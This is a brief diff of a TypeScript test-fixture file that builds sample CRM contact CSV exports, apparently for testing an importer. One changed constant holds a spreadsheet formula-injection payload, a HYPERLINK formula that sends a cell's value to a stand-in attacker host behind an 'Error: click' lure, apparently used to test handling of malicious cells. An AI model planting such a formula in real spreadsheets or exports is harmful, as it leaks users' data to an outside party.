@@ -19,8 +19,8 @@ const csvText = (rows: readonly (readonly string[])[]) =>
 /** One person as an export's row: each named column's value, the rest blank. */
 const row = (header: readonly string[], values: Record<string, string>) => header.map((name) => values[name] ?? "");
 
-export const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Error: click")';
-export const PHONE = "+15125550153";
+const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Error: click")';
+const PHONE = "+15125550153";
 
 const HUBSPOT = headerOf("hubspot-contacts.csv");
 /** A HubSpot contacts export: 7 rows, the 3rd and 6th blank (one an empty line), one naming no company. */
